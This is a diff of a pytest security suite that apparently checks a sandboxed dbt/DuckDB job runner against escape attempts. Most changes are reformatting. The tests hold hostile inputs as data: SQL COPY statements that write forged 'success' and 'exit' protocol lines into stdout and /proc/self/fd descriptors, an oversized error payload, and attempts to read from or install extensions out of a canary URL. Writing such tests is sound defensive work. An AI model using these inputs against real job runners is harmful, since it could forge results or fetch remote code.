 def test_job_cannot_write_into_the_protocol_pipe(scene, attack_engine):
     """Forged protocol lines ("exit", "result") written to the worker's pipe would desync it."""
-    forged = ("'{\"type\": \"result\", \"result\": {\"status\": \"success\"}}' || chr(10) || "
-              "'{\"type\": \"exit\", \"timed_out\": false}' || chr(10)")
+    forged = (
+        '\'{"type": "result", "result": {"status": "success"}}\' || chr(10) || '
+        '\'{"type": "exit", "timed_out": false}\' || chr(10)'
+    )
     targets = ["/dev/stdout", "/dev/stderr", "/dev/fd/1"] + [f"/proc/self/fd/{n}" for n in range(10)]
     for i, target in enumerate(targets):
-        scene.save(f"models/pipe_{i}.sql", hook_model(
-            f"COPY (select {forged} as line) TO '{target}' (HEADER false, QUOTE '')"))
+        scene.save(
+            f"models/pipe_{i}.sql", hook_model(f"COPY (select {forged} as line) TO '{target}' (HEADER false, QUOTE '')")
+        )
     workers = _worker_pids(attack_engine)
     result = scene.run()
     assert result.status == "failed"
@@ -986,8 +1088,10 @@ def test_job_cannot_write_into_the_protocol_pipe(scene, attack_engine):
 @pytest.mark.parametrize("how", ["error_message", "query_cell", "show_cell"])
 def test_huge_result_stays_small(scene, how):
     if how == "error_message":
-        scene.save("models/huge.sql", "{% if execute %}{{ exceptions.raise_compiler_error("
-                                      "'w' * 2000000) }}{% endif %}\nselect 1 as id")
+        scene.save(
+            "models/huge.sql",
+            "{% if execute %}{{ exceptions.raise_compiler_error('w' * 2000000) }}{% endif %}\nselect 1 as id",
+        )
         result = scene.run(select="huge")
         assert result.status == "failed"
     elif how == "query_cell":
@@ -1014,6 +1118,7 @@ def test_huge_result_does_not_stall_the_server(scene, settings_env):
 
 
 # --- 12. network ----------------------------------------------------------------------------
+
 
 @pytest.fixture
 def canary():
@@ -1043,11 +1148,10 @@ def canary():
 def test_network_is_unreachable(scene, canary):
     url, hits = canary
     attacks = {
-        "read_csv_http": "{{ config(materialized='table') }}\n" f"select * from read_csv('{url}/a.csv')",
-        "read_text_http": "{{ config(materialized='table') }}\n" f"select * from read_text('{url}/t')",
+        "read_csv_http": f"{{{{ config(materialized='table') }}}}\nselect * from read_csv('{url}/a.csv')",
+        "read_text_http": f"{{{{ config(materialized='table') }}}}\nselect * from read_text('{url}/t')",
         "install_from_canary": hook_model(f"INSTALL httpfs FROM '{url}'"),
-        "read_unreachable": "{{ config(materialized='table') }}\n"
-                            "select * from read_csv('http://127.0.0.1:1/x.csv')",
+        "read_unreachable": "{{ config(materialized='table') }}\nselect * from read_csv('http://127.0.0.1:1/x.csv')",
     }
     for name, sql in attacks.items():
         scene.save(f"models/{name}.sql", sql)
